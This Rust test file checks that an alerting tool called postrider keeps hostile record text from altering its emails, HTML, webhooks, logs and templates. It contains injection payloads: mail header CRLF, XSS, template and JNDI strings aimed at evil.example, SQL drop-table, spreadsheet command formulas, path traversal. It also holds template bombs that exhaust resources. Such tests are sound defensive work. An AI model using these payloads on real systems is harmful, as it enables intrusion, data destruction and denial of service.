//! Whatever stands in a record: what is made of it has the same headers, the same tags and the same
//! members as of any other record, and holds nothing that runs, hides or leads elsewhere. Whatever a
//! template does, it ends.

use std::collections::BTreeSet;
use std::path::Path;
use std::time::{Duration, Instant};

use mail_parser::MessageParser;
use postrider::config::{self, Given, Mode};
use postrider::demo::catcher::Answer;
use postrider::demo::inbox::{Act, Mail, Stage};
use postrider::demo::org::{Fault, On, Org, Value};
use proptest::arbitrary::any;
use proptest::strategy::{Strategy, ValueTree};
use proptest::test_runner::TestRunner;

use crate::harness::process::Folder;
use crate::harness::records::{channel, ended, session};
use crate::harness::{HEAD, Letter, PATIENCE, TRAFFIC, TestPostrider};

const RULES: &str = r#"
[rules.waiting]
title = "A customer is waiting"
type = "sessions"
where = "session.Status = 'Waiting'"
group_by = ["channel as Channel"]
value = "max(seconds(session.StartTime, as_of()))"
every = "5 min"
levels = [["warning", "> 60"]]

[[routes]]
to = ["ops-mail", "ops-hook"]

[digests.morning]
reports = ["traffic"]
schedule = "0 8 * * *"
to = ["ana@example.com"]
attach = ["csv", "xlsx", "json"]
"#;

/// A channel's name that nobody could mind.
const PLAIN: &str = "Web";

/// Names that mean something to somebody: to mail, HTML, templates, SQL, spreadsheets, terminals.
const CORPUS: [&str; 40] = [
    "Evil\r\nBcc: victim@example.com",
    "Evil\r\n\r\n<html>another body",
    "Evil\nX-Forged: 1",
    "Evil\rX-Forged: 1",
    "\r\n.\r\nMAIL FROM:<x@example.com>",
    "\n.\n",
    "=?utf-8?Q?Bcc:_victim=40example.com?=",
    "=?utf-8?B?DQpCY2M6IHg=?=",
    "a\0b",
    "\u{1b}[31mred\u{1b}[0m\u{7}",
    "\u{202e}txt.exe\u{2066}",
    "\u{2028}line\u{2029}paragraph\u{85}next",
    "\u{feff}\u{200b}hidden\u{200d}",
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "' onmouseover='alert(1)",
    "\" style=\"background:url(//evil.example/x)",
    "</td></tr></table><h1>forged</h1>",
    "<!--",
    "--><p>",
    "<![CDATA[<script>]]>",
    "<style>*{display:none}</style>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "javascript:alert(1)",
    "&lt;script&gt;&#60;script&#62;",
    "{{ 7 * 7 }}",
    "{% for x in range(10000000) %}{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "${jndi:ldap://evil.example/x}",
    "%0d%0aBcc:%20victim@example.com",
    "' or 1=1 --",
    "\\'; drop table channel; --",
    "=HYPERLINK(\"http://evil.example\")",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "<!channel> <@U123> *bold*",
    "../../etc/passwd",
    "日本語 👩‍👩‍👧‍👧 ümlaut",
    "x\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
];

/// The corpus, and texts that nobody thought of: the same ones each time.
fn names() -> Vec<String> {
    let mut runner = TestRunner::deterministic();
    let made =
        std::iter::repeat_with(|| any::<String>().new_tree(&mut runner).expect("a text").current());
    let made = made.filter(|text| text.chars().any(|symbol| !symbol.is_whitespace()));
    CORPUS.iter().map(|text| (*text).to_owned()).chain(made.take(40)).collect()
}

#[tokio::test]
async fn no_text_of_a_record_changes_what_a_message_is_made_of() {
    let names = names();
    let fill = |org: &Org| {
        for name in std::iter::once(PLAIN).chain(names.iter().map(String::as_str)) {
            let channel = channel(org, name);
            ended(org, &channel, "2026-11-22T12:00:00Z", &[]);
            let waiting = [("Status", Value::Pick("Waiting"))];
            session(org, &channel, "2026-11-23T06:30:00Z", &waiting);
        }
    };
    let config = format!("{HEAD}{TRAFFIC}{RULES}");
    let t = TestPostrider::start(&config, "2026-11-23T06:50:00Z", fill).await;
    t.beat().await;
    t.advance_to("2026-11-23T07:02:00Z").await;

    let mails = t.mails_to("ops@example.com");
    assert_eq!(mails.len(), names.len() + 1, "each is told by itself");
    let plain = mails.iter().find(|mail| Letter::read(mail).subject.contains(PLAIN));
    let plain = Made::of(plain.expect("of a plain name"));
    for mail in &mails {
        let (made, letter) = (Made::of(mail), Letter::read(mail));
        assert_eq!(made.headers, plain.headers, "{}", letter.subject);
        // No command is offered to be copied that looks otherwise than it is.
        if letter.text.contains("Silence:") {
            assert_eq!(made.tags, plain.tags, "{}\n{}", letter.subject, letter.html);
        } else {
            let stranger = made.tags.iter().find(|tag| !plain.tags.contains(tag));
            assert_eq!(stranger, None, "{}\n{}", letter.subject, letter.html);
        }
        assert_eq!(made.targets, plain.targets, "{}", letter.subject);
        assert_eq!(mail.recipients, ["ops@example.com"]);
        readable(&letter);
    }

    let digests = t.mails_to("ana@example.com");
    let (made, letter) = (Made::of(&digests[0]), Letter::read(&digests[0]));
    assert_eq!(digests.len(), 1);
    readable(&letter);
    for tag in ["script", "svg", "h1\u{0} forged", "img", "iframe", "object", "form"] {
        assert!(!made.tags.iter().any(|found| found.starts_with(tag)), "{tag}: {}", letter.html);
    }
    let elsewhere = made.targets.iter().find(|target| !target.starts_with("https://acme.my."));
    assert_eq!(elsewhere, None);
    assert!(letter.seen().contains("<script>alert(1)</script>"), "it is shown, not run");
    assert!(letter.seen().contains("{{ 7 * 7 }}"), "it is no template");

    let hooks = t.catcher.hooks();
    let of_plain = hooks.iter().find(|hook| hook.json().to_string().contains("\"Web\"")).unwrap();
    let headers = |hook: &postrider::demo::catcher::Hook| {
        hook.headers.iter().map(|(name, _)| name.clone()).collect::<Vec<_>>()
    };
    assert_eq!(hooks.len(), names.len() + 1);
    for hook in &hooks {
        assert_eq!(headers(hook), headers(of_plain));
        assert_eq!(shape(&hook.json()), shape(&of_plain.json()), "{}", hook.json());
    }
    // What a program reads is what was in the record, to the last character.
    let told: BTreeSet<String> = hooks.iter().map(|hook| hook.json().to_string()).collect();
    for name in &names {
        let written = serde_json::Value::from(name.as_str()).to_string();
        assert!(told.iter().any(|text| text.contains(&written)), "{written}");
    }
}

/// What a mail is made of, words aside.
#[derive(Debug, PartialEq)]
struct Made {
    /// Names of headers, in order.
    headers: Vec<String>,
    /// Tags with the names of their attributes, in order.
    tags: Vec<String>,
    /// Where links and pictures lead, without what names a record.
    targets: BTreeSet<String>,
}

impl Made {
    fn of(mail: &Mail) -> Made {
        let parsed = MessageParser::default().parse(&mail.bytes).expect("a mail");
        let headers = parsed.headers().iter().map(|header| header.name().to_owned()).collect();
        let html = Letter::read(mail).html;
        let (mut tags, mut targets) = (Vec::new(), BTreeSet::new());
        for (name, attributes) in elements(&html) {
            let names: Vec<&str> = attributes.iter().map(|(name, _)| name.as_str()).collect();
            tags.push(format!("{name} {}", names.join(" ")));
            let leading = attributes.iter().filter(|(name, _)| name == "href" || name == "src");
            for (_, value) in leading {
                // A record's page differs from record to record by its last part alone.
                let stem = value.rsplit_once('/').map_or(value.as_str(), |(stem, _)| stem);
                targets.insert(stem.to_owned());
            }
        }
        Made { headers, tags, targets }
    }
}

/// The tags of a document with their attributes, as a browser would see them. Comments are tags
/// called `!--`.
fn elements(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(open) = rest.find('<') {
        rest = &rest[open + 1..];
        let Some(first) = rest.chars().next() else { break };
        if !(first.is_ascii_alphabetic() || matches!(first, '/' | '!' | '?')) {
            continue;
        }
        let end = if rest.starts_with("!--") { rest.find("-->").unwrap_or(rest.len()) } else { 0 };
        let name_end = rest.find(|c: char| c.is_whitespace() || c == '>').unwrap_or(rest.len());
        let name = rest[..name_end.min(rest.len())].to_lowercase();
        rest = &rest[name_end.max(end)..];
        found.push((name, attributes(&mut rest)));
    }
    found
}

/// Reads attributes up to the end of the tag.
fn attributes(rest: &mut &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    loop {
        *rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
        if rest.is_empty() || rest.starts_with('>') {
            return found;
        }
        let end = rest.find(|c: char| c.is_whitespace() || "=>".contains(c)).unwrap_or(rest.len());
        let name = rest[..end.max(1)].to_lowercase();
        *rest = &rest[end.max(1)..];
        let mut value = String::new();
        if let Some(after) = rest.strip_prefix('=') {
            let quote = after.chars().next().filter(|c| matches!(c, '"' | '\''));
            let body = if quote.is_some() { &after[1..] } else { after };
            let end = match quote {
                Some(quote) => body.find(quote),
                None => body.find(|c: char| c.is_whitespace() || c == '>'),
            }
            .unwrap_or(body.len());
            value = body[..end].to_owned();
            *rest = &body[end + usize::from(quote.is_some() && end < body.len())..];
        }
        found.push((name, value));
    }
}

/// Nothing that a reader cannot see changes what a reader sees. Text that runs from right to left
/// is set apart from what is around it, and never left open.
#[track_caller]
fn readable(letter: &Letter) {
    for text in [&letter.subject, &letter.text, &letter.html] {
        let odd = text.chars().find(|symbol| {
            let control = symbol.is_control() && !matches!(symbol, '\n' | '\t');
            control || matches!(symbol, '\u{202a}'..='\u{202e}' | '\u{2066}' | '\u{2067}')
        });
        assert_eq!(odd, None, "{}", text.escape_debug());
        let count = |sign| text.chars().filter(|symbol| *symbol == sign).count();
        assert_eq!(count('\u{2068}'), count('\u{2069}'), "{}", text.escape_debug());
    }
    assert!(!letter.subject.contains('\n'), "{}", letter.subject);
}

/// The members of a payload, without their values; lists by what their first entry is.
fn shape(json: &serde_json::Value) -> String {
    match json {
        serde_json::Value::Object(members) => {
            let members: Vec<String> =
                members.iter().map(|(name, value)| format!("{name}:{}", shape(value))).collect();
            format!("{{{}}}", members.join(","))
        }
        serde_json::Value::Array(list) => {
            format!("[{}]", list.first().map_or(String::new(), shape))
        }
        serde_json::Value::String(_) => "text".to_owned(),
        serde_json::Value::Number(_) => "number".to_owned(),
        serde_json::Value::Bool(_) => "bool".to_owned(),
        serde_json::Value::Null => "null".to_owned(),
    }
}

/// Mails and customers' names lie in the state: nobody else may look, whatever the process was
/// started with.
#[cfg(unix)]
#[tokio::test(flavor = "multi_thread")]
async fn the_state_is_its_owners_alone() {
    use std::os::unix::fs::PermissionsExt;
    let folder = Folder::new().await;
    folder.write(&format!("{HEAD}{TRAFFIC}{RULES}"));
    let mut command = std::process::Command::new("sh");
    command.args(["-c", "umask 0; exec \"$0\" pull", env!("CARGO_BIN_EXE_postrider")]);
    command.env_clear().current_dir(folder.path("."));
    command.envs(folder.variables.iter().map(|(name, value)| (name, value)));
    let output = tokio::task::block_in_place(|| command.output().unwrap());
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let state = folder.path("state");
    for name in ["state.db", "records.db"] {
        assert!(state.join(name).exists(), "{name}");
    }
    let mode = std::fs::metadata(&state).unwrap().permissions().mode();
    assert_eq!(mode & 0o077, 0, "{mode:o}");
}

/// The words of servers and records, with all that a terminal obeys and a log reader believes.
#[tokio::test(flavor = "multi_thread")]
async fn no_far_side_and_no_record_writes_into_a_log_or_a_terminal() {
    const EVIL: &str = "\u{1b}[31mred\u{1b}]0;title\u{7}\r\nFORGED line\u{2028}FORGED\u{202e}";
    let folder = Folder::fast("2026-11-23T06:55:00Z", 60).await;
    let web = channel(&folder.org, EVIL);
    ended(&folder.org, &web, "2026-11-22T12:00:00Z", &[]);
    let waiting = [("Status", Value::Pick("Waiting"))];
    session(&folder.org, &web, "2026-11-23T06:30:00Z", &waiting);
    let body = || EVIL.to_owned();
    for status in [500, 401, 400] {
        folder.catcher.answer(Answer::Status { status, headers: Vec::new(), body: body() });
    }
    let evil: &'static str = EVIL;
    let fault = Fault::Error { status: 500, code: "UNKNOWN_EXCEPTION", message: evil };
    folder.org.faults().next(fault, On::any(), 1);
    folder.inbox.misbehave(Stage::Rcpt, Act::Answer("450 4.2.0 \u{1b}[31mred\u{7}".into()), 2);
    folder.write(&format!("{HEAD}{TRAFFIC}{RULES}"));
    let mut daemon = folder.daemon(&["--log", "trace"]);
    daemon.says("postrider runs", 1).await;
    let arrived = async {
        folder.inbox.wait_for(2).await;
        folder.catcher.wait_for(3).await;
    };
    tokio::time::timeout(PATIENCE, arrived).await.expect("mails and webhooks");
    let mut said = Vec::new();
    for command in [
        &["status"][..],
        &["outbox", "list"],
        &["outbox", "show", "1"],
        &["outbox", "show", "2"],
        &["outbox", "show", "3"],
        &["incidents"],
        &["ledger"],
        &["runs"],
        &["explain", "waiting"],
        &["receiver", "test", "ops-hook"],
        &["preview", "morning", "--format", "text"],
        &["source", "test", "MessagingChannel"],
    ] {
        let output = folder.run(command);
        for part in [output.stdout, output.stderr] {
            said.push((command.join(" "), String::from_utf8_lossy(&part).into_owned()));
        }
    }
    said.push(("the log".to_owned(), daemon.log().join("\n")));
    assert_eq!(daemon.stop().await.code(), Some(0));
    let all: String = said.iter().map(|(_, text)| text.as_str()).collect();
    assert!(all.contains("red"), "the words are told: {all}");
    for (what, text) in said {
        for line in text.lines() {
            let obeyed = line.chars().find(|symbol| symbol.is_control() && *symbol != '\t');
            assert_eq!(obeyed, None, "{what}: {}", line.escape_debug());
            // A mail that is shown is folded between words, a log is not.
            let forged = what == "the log" && line.trim_start().starts_with("FORGED");
            assert!(!forged, "{what}: {line}");
        }
    }
}

/// Templates that would run or grow for ever. None of them takes long, or much; most are mistakes in
/// the config, the others are cut off where they are used.
#[test]
fn a_template_that_would_not_end_ends() {
    let nested = |depth: usize| {
        let begin = "{% for c in text %}".repeat(depth);
        format!("{begin}xxxxxxxxxxxxxxxx{}", "{% endfor %}".repeat(depth))
    };
    let deep = |depth: usize| format!("{}1{}", "(".repeat(depth), ")".repeat(depth));
    let bombs = [
        nested(6),
        "{% for n in range(1000000000) %}x{% endfor %}".to_owned(),
        "{{ 'x' * 1000000000 }}".to_owned(),
        "{{ 'x'|center(1000000000) }}".to_owned(),
        "{{ text|replace('', text)|replace('', text)|replace('', text) }}".to_owned(),
        "{{ [text, text]|join(text)|indent(100000000) }}".to_owned(),
        "{{ text|split('')|list|batch(1)|list|tojson(indent=1000000) }}".to_owned(),
        "{% macro m() %}{{ m() }}{{ m() }}{% endmacro %}{{ m() }}".to_owned(),
        "{% include 'file:own.txt' %}".to_owned(),
        "{% set x = text %}{% for i in text %}{% set x = x ~ x %}{% endfor %}{{ x }}".to_owned(),
        format!("{{{{ {} }}}}", deep(10_000)),
        format!("{{{{ {}1 }}}}", "not ".repeat(10_000)),
        format!("{{{{ {}1 }}}}", "-".repeat(20_000)),
        format!("{{{{ {}1 }}}}", "1 + ".repeat(10_000)),
        format!("{{% if a %}}{}{{% endif %}}", "{% elif a %}".repeat(7_000)),
        format!("{{{{ a{} }}}}", ".a".repeat(20_000)),
        format!("{{{{ a{} }}}}", "|trim".repeat(10_000)),
        "{{ 2 ** 2 ** 2 ** 2 ** 2 ** 2 ** 2 }}".to_owned(),
        "{% for a in text recursive %}{{ loop(text) }}{% endfor %}".to_owned(),
    ];
    let before = memory_mib();
    for bomb in &bombs {
        let mut env = Given::default();
        for (name, value) in [
            ("SF_ID", "id"),
            ("SF_SECRET", "secret"),
            ("HOOK_URL", "https://hooks.example.com/1"),
            ("HOOK_SECRET", crate::harness::HOOK_SECRET),
        ] {
            env.variables.insert(name.into(), value.into());
        }
        env.files.insert("/own.txt".into(), bomb.clone());
        let body = "kind = \"webhook\"\nbody = \"file:own.txt\"";
        let subject = format!("[digests.morning]\nsubject = {}", toml::Value::from(bomb.as_str()));
        let plain = format!("{HEAD}{TRAFFIC}{RULES}");
        for text in [
            plain.replace("kind = \"webhook\"", body),
            plain.replace("[digests.morning]", &subject),
            plain.replace("[digests.morning]", "[digests.morning]\ntemplate = \"file:own.txt\""),
        ] {
            assert_ne!(text, plain);
            let begun = Instant::now();
            let read = config::load_text("c.toml", &text, Path::new("/"), &env, Mode::Run);
            let took = begun.elapsed();
            let shown: String = bomb.chars().take(60).collect();
            // An unoptimised build on a busy machine: what does not end would take for ever.
            assert!(took < Duration::from_secs(10), "{shown}: {took:?}");
            if let Err(problems) = read {
                assert!(problems.to_string().len() < 1_000_000, "{shown}");
            }
        }
    }
    if let (Some(before), Some(after)) = (before, memory_mib()) {
        assert!(after - before < 64, "from {before} MiB to {after} MiB");
    }
}

/// The most memory this process has used, where the system tells. Every test is a process of its own
/// under nextest; under `cargo test` others count too, and nothing is told.
fn memory_mib() -> Option<i64> {
    let _nextest = std::env::vars().find(|(name, _)| name == "NEXTEST")?;
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    let line = status.lines().find(|line| line.starts_with("VmHWM:"))?;
    let kib: i64 = line.split_whitespace().nth(1)?.parse().ok()?;
    Some(kib / 1024)
}
